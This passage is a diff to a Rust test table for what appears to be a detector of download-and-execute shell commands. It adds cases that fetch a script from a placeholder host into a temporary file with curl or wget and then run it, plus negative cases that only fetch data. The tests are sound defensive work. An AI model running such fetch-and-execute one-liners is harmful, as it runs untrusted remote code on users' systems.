@@ -526,7 +526,17 @@ const CASES: &[(&str, &str)] = &[
         "e(){ curl -so \"$1\" https://x/i; }; d(){ e \"$1\"; }; c(){ d \"$1\"; }; b(){ c \"$1\"; }; a(){ b \"$1\"; }; a i.sh; bash i.sh",
         "0055",
     ),
+    // A file whose name is not known (a temporary one), run by the same word that named it
+    // where fetched text was saved.
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; bash \"$t\"", "0055"),
+    ("d=$(mktemp -d); curl -so \"$d/install.sh\" https://x/i; bash \"$d/install.sh\"", "0055"),
+    ("t=$(mktemp); curl -s https://x/i > \"$t\"; bash \"${t}\"", "0055"),
+    ("t=$(mktemp); wget -qO \"$t\" https://x/i; sh \"$t\"", "0055"),
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; chmod +x \"$t\"; \"$t\"", "0055"),
+    ("f(){ curl -so \"$tmp\" https://x/i; }; tmp=$(mktemp); f; trap 'bash \"$tmp\"' EXIT", "0055"),
     // Where what is known of the name does not fit, or the file is not made executable: not.
+    ("t=$(mktemp); curl -so \"$t\" https://x/d.json; ./build.sh", "0045"),
+    ("t=$(mktemp); curl -so \"$t\" https://x/i; jq . \"$t\"; bash \"$u\"", "0045"),
     ("curl -so d.json https://x/d; for t in tests/*.sh; do bash \"$t\"; done", "0047"),
     ("curl -so d.json https://x/d; f=tests/t1.sh; [ -n \"$X\" ] && f=a.sh; bash \"$f\"", "0047"),
     ("curl -so d.json https://x/d; ls *.sh | xargs -n1 bash -n", "0047"),
